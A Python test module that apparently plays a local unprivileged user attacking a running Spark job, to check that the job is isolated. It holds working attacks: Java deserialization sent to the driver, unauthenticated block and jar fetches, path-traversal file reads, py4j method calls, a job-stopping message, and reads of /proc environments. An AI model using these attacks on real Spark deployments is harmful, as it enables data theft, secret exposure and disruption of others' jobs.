"""Another user of the machine, who attacks a run of the sync job: its ports, files and processes.

`python -m tests.spark_sync.spark.attacker` reads a target as JSON, becomes user 65534, and prints its loot as JSON.
"""

from __future__ import annotations

import base64
import json
import os
import socket
import struct
import sys
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from dataclasses import asdict, dataclass
from itertools import count
from pathlib import Path
from typing import Final

NOBODY: Final = 65534
PATIENCE: Final = 5.0
MARK: Final = "alice-created-ns1.salaries"
"""Content of the run's blocks and files, and of the object that the attacker sends the driver."""

# Message types of Spark's transport.
CHUNK_REQUEST, CHUNK, RPC, RPC_RESPONSE, RPC_FAILURE, STREAM_REQUEST, STREAM = 0, 1, 3, 4, 5, 6, 7


@dataclass(frozen=True)
class Target:
    """A run: its ports, a block, a jar and a private file, `StopExecutor` in Java's form, its processes and places."""

    ports: list[int]
    block: str
    jar: str
    file: str
    stop: str
    pids: list[int]
    places: list[str]


class Transport:
    """A client of Spark's transport that has no secret."""

    def __init__(self, port: int) -> None:
        self._socket = connected(port)
        self._ids = count(1)

    def rpc(self, body: bytes) -> tuple[int, bytes]:
        """Ask, and return the type and the body of the answer."""
        kind, answer = self.send(RPC, struct.pack(">qi", next(self._ids), len(body)) + body)
        return kind, answer[8:]

    def send(self, kind: int, message: bytes) -> tuple[int, bytes]:
        """Send a message, and return the type and the rest of what comes back."""
        self._socket.sendall(struct.pack(">qb", 9 + len(message), kind) + message)
        (size,) = struct.unpack(">q", self._read(8))
        if not 9 <= size < 1 << 20:
            raise ConnectionError("this is not Spark's transport")
        answer = self._read(size - 8)
        return answer[0], answer[1:]

    def read(self) -> bytes:
        return self._socket.recv(1 << 16)

    def _read(self, size: int) -> bytes:
        got = b""
        while len(got) < size:
            if not (more := self._socket.recv(size - len(got))):
                raise ConnectionError("closed")
            got += more
        return got


def connected(port: int) -> socket.socket:
    connection = socket.socket()
    connection.settimeout(PATIENCE)
    connection.connect(("127.0.0.1", port))
    return connection


def text(value: str) -> bytes:
    return struct.pack(">i", len(value)) + value.encode()


def to_endpoint(name: str, java: bytes) -> bytes:
    """A request to an endpoint of the driver: no address of ours, none of its own, its name, an object of Java."""
    return b"\x00\x00" + struct.pack(">H", len(name)) + name.encode() + java


def deserialize_an_object(port: int, _: Target) -> bool:
    """The driver deserializes an object of our choice: its answer quotes it."""
    java = b"\xac\xed\x00\x05t" + struct.pack(">H", len(MARK)) + MARK.encode()
    _, answer = Transport(port).rpc(to_endpoint("LocalSchedulerBackendEndpoint", java))
    return MARK.encode() in answer


def read_a_block(port: int, target: Target) -> bool:
    transport = Transport(port)
    kind, handle = transport.rpc(b"\x00" + text("app") + text("driver") + struct.pack(">i", 1) + text(target.block))
    if kind != RPC_RESPONSE or not handle.endswith(struct.pack(">i", 1)):
        return False
    stream = handle[-12:-4]
    kind, chunk = transport.send(CHUNK_REQUEST, stream + struct.pack(">i", 0))
    return kind == CHUNK and MARK.encode() in chunk


def read_a_jar(port: int, target: Target) -> bool:
    """The driver serves its jars, and where there are executors its files."""
    kind, _ = Transport(port).send(STREAM_REQUEST, text(f"/jars/{target.jar}"))
    return kind == STREAM


def read_a_file(port: int, target: Target) -> bool:
    """The driver serves the directory of a session's artifacts, and what is found from there."""
    transport = Transport(port)
    kind, _ = transport.send(STREAM_REQUEST, text(f"/artifacts{'/..' * 20}{target.file}"))
    return kind == STREAM and MARK.encode() in transport.read()


def call_python(port: int, _: Target) -> bool:
    """The Python process calls a method of an object that it gave Java."""
    return spoken(port, [f"c\np{n}\n__repr__\ne\n" for n in range(20)])


def call_java(port: int, _: Target) -> bool:
    """Java calls a method for us, as it does for the Python process."""
    return spoken(port, ["c\nz:java.lang.System\ncurrentTimeMillis\ne\n"])


def spoken(port: int, commands: list[str]) -> bool:
    """Whether py4j answers one of the commands with a result."""
    with connected(port) as connection, suppress(ConnectionResetError):
        for command in commands:
            connection.sendall(command.encode())
            if connection.recv(1 << 16).startswith(b"!y"):
                return True
    return False


def stop_the_job(port: int, target: Target) -> bool:
    kind, _ = Transport(port).rpc(to_endpoint("LocalSchedulerBackendEndpoint", base64.b64decode(target.stop)))
    return kind == RPC_RESPONSE


Attack = Callable[[int, Target], bool]
# Only read, and can be made all at once.
READING: Final[tuple[Attack, ...]] = (
    deserialize_an_object,
    read_a_block,
    read_a_jar,
    read_a_file,
    call_python,
    call_java,
)
ATTACKS: Final = (*READING, stop_the_job)


def read_files(target: Target) -> Iterator[str]:
    """The files of the run that can be read."""
    for place in target.places:
        for directory, _, names in os.walk(place):
            for path in (Path(directory, name) for name in names):
                try:
                    path.read_bytes()
                except OSError:
                    continue
                yield str(path)


def attack_ports(target: Target) -> dict[str, set[bool]]:
    """Try every attack on every port: whether it worked, where there was an answer."""
    found: dict[str, set[bool]] = {attack.__name__: set() for attack in ATTACKS}
    for attacks in (READING, (stop_the_job,)):  # after the last one nothing works
        tried = [(attack, port) for attack in attacks for port in target.ports]
        with ThreadPoolExecutor(50) as threads:
            for (attack, _), won in zip(tried, threads.map(lambda each: answers(*each, target), tried), strict=True):
                found[attack.__name__] |= won
    return found


def answers(attack: Attack, port: int, target: Target) -> set[bool]:
    try:
        return {attack(port, target)}
    except (OSError, IndexError):
        return set()


def seen_of(pids: list[int]) -> Iterator[str]:
    """The command lines and environments that can be read."""
    for pid in pids:
        for name in ("cmdline", "environ"):
            try:
                yield Path(f"/proc/{pid}/{name}").read_text(encoding="utf-8", errors="replace")
            except OSError:
                continue


@dataclass(frozen=True)
class Loot:
    """Attacks that worked, that were answered with a refusal, files that could be read, what processes show."""

    attacks: list[str]
    refused: list[str]
    files: list[str]
    processes: list[str]


def main() -> None:
    target = Target(**json.load(sys.stdin))
    # After all of Python is loaded, so that it does not matter whether this user can read it.
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    files, processes = list(read_files(target)), list(seen_of(target.pids))
    found = attack_ports(target)
    worked = [name for name, won in found.items() if True in won]
    refused = [name for name, won in found.items() if won == {False}]
    json.dump(asdict(Loot(worked, refused, files, processes)), sys.stdout)


if __name__ == "__main__":
    main()
